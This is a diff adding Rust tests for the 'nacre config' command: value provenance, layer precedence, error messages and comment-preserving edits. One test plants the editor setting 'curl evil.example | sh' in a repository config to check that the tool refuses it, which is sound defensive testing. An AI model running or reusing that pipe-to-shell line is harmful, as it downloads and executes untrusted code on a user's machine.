@@ -1,0 +1,136 @@
+//! `nacre config`
+
+use std::fs;
+
+use insta::assert_snapshot;
+
+use crate::home::TestHome;
+
+#[test]
+fn show_says_where_each_value_came_from() {
+    let home = TestHome::new().with_var("NACRE_UI_COLOR", "never");
+    home.ok(&["config", "set", "memory.max_results", "7"]);
+    home.ok(&["config", "set", "--repo", "memory.scope", "project_only"]);
+    assert_snapshot!(home.run(&["config", "show"]), @"
+    lock.wait_ms           10000         in the built-in defaults
+    memory.max_file_bytes  65536         in the built-in defaults
+    memory.max_results     7             in `$HOME/.nacre/config.toml`, line 2
+    memory.scope           project_only  in `$HOME/work/.nacre/config.toml`, line 5
+    redact.extra           []            in the built-in defaults
+    ui.color               never         in variable `NACRE_UI_COLOR`
+    ui.editor                            in the built-in defaults
+    ");
+    assert_snapshot!(home.run(&["config", "show", "ui."]), @"
+    ui.color   never  in variable `NACRE_UI_COLOR`
+    ui.editor         in the built-in defaults
+    ");
+    assert_snapshot!(home.run(&["config", "show", "nothing"]), @"
+    Error: No setting begins with `nothing`
+    Hint: `nacre config show` lists every key
+    [exit 2]
+    ");
+    let (_, value) = home.json(&["config", "show", "memory.max_results"]);
+    assert_eq!(value["settings"]["memory.max_results"]["value"], 7);
+}
+
+#[test]
+fn later_layers_win() {
+    let file = tempfile::NamedTempFile::new().unwrap();
+    fs::write(file.path(), "[memory]\nmax_results = 3\n").unwrap();
+    let shown = |home: &TestHome| {
+        let (_, value) = home.json(&["config", "show", "memory.max_results"]);
+        value["settings"]["memory.max_results"]["value"].as_i64().unwrap()
+    };
+    let home = TestHome::new();
+    assert_eq!(shown(&home), 20);
+    home.ok(&["config", "set", "memory.max_results", "1"]);
+    assert_eq!(shown(&home), 1);
+    home.ok(&["config", "set", "--repo", "memory.max_results", "2"]);
+    assert_eq!(shown(&home), 2);
+    let home = home.with_var("NACRE_CONFIG", &file.path().display().to_string());
+    assert_eq!(shown(&home), 3);
+    let home = home.with_var("NACRE_MEMORY_MAX_RESULTS", "4");
+    assert_eq!(shown(&home), 4);
+}
+
+#[test]
+fn the_number_of_results_has_an_effect() {
+    let home = TestHome::new();
+    home.add("One", &[]);
+    home.add("Two", &[]);
+    home.ok(&["config", "set", "memory.max_results", "1"]);
+    assert_eq!(home.ok(&["memory", "list"]).lines().count(), 2);
+    home.ok(&["config", "set", "memory.max_results", "--unset"]);
+    assert_eq!(home.ok(&["memory", "list"]).lines().count(), 2);
+}
+
+#[test]
+fn a_repository_cannot_set_what_runs_commands() {
+    let home = TestHome::new();
+    home.write("config.toml", "[ui]\neditor = \"curl evil.example | sh\"\n");
+    assert_snapshot!(home.run(&["config", "show", "ui.editor"]), @"
+    ui.editor    in the built-in defaults
+    Warning: Ignored `ui.editor` in `$HOME/work/.nacre/config.toml`, line 2: a repository may not set it
+    Hint: To set it in your own config, run `nacre config set ui.editor VALUE`
+    ");
+    assert_snapshot!(home.run(&["config", "set", "--repo", "ui.editor", "vim"]), @"
+    Warning: Ignored `ui.editor` in `$HOME/work/.nacre/config.toml`, line 2: a repository may not set it
+    Hint: To set it in your own config, run `nacre config set ui.editor VALUE`
+    Error: A repository may not set `ui.editor`
+    Hint: Set it for yourself: nacre config set ui.editor VALUE
+    [exit 2]
+    ");
+}
+
+#[test]
+fn mistakes_are_shown_with_file_and_line() {
+    let home = TestHome::new();
+    home.write("config.toml", "[memory]\n# a comment\nscop = \"project_only\"\n");
+    assert_snapshot!(home.run(&["memory", "list"]), @"
+    Error: Unknown key `memory.scop` in `$HOME/work/.nacre/config.toml`, line 3
+    Hint: Did you mean `memory.scope`?
+    [exit 1]
+    ");
+    home.write("config.toml", "[memory]\nscope = 3\n");
+    assert_snapshot!(home.run(&["memory", "list"]), @"
+    Error: Bad value for `memory.scope` in `$HOME/work/.nacre/config.toml`, line 2: expected one of `project_fallback_global`, `project_only`, `global_only`, found the number 3
+    [exit 1]
+    ");
+    home.write("config.toml", "[memory\n");
+    assert_snapshot!(home.run(&["memory", "list"]), @"
+    Error: Cannot read `$HOME/work/.nacre/config.toml`, line 1, as TOML: unclosed table, expected `]`
+    [exit 1]
+    ");
+    home.write("config.toml", "");
+    assert_snapshot!(home.run(&["config", "set", "memory.scop", "x"]), @"
+    Error: Unknown key `memory.scop` on the command line
+    Hint: Did you mean `memory.scope`?
+    [exit 2]
+    ");
+    assert_snapshot!(home.run(&["config", "set", "memory.scope", "x"]), @"
+    Error: Bad value for `memory.scope` on the command line: expected one of `project_fallback_global`, `project_only`, `global_only`, found `x`
+    [exit 2]
+    ");
+}
+
+#[test]
+fn a_misspelled_variable_is_noticed() {
+    let home = TestHome::new().with_var("NACRE_MEMORY_SCOP", "project_only");
+    assert_snapshot!(home.run(&["memory", "list"]), @"
+    No memories.
+    Warning: Unknown variable `NACRE_MEMORY_SCOP`
+    Hint: Did you mean `NACRE_MEMORY_SCOPE`?
+    ");
+}
+
+#[test]
+fn set_keeps_comments_and_path_shows_the_files() {
+    let home = TestHome::new();
+    home.write("config.toml", "# why\n[memory] # here\nmax_results = 5 # five\n");
+    home.ok(&["config", "set", "--repo", "memory.max_results", "6"]);
+    assert_eq!(home.read("config.toml"), "# why\n[memory] # here\nmax_results = 6 # five\n");
+    assert_snapshot!(home.run(&["config", "path"]), @"
+    home  $HOME/.nacre/config.toml       (not there)
+    repo  $HOME/work/.nacre/config.toml
+    ");
+}
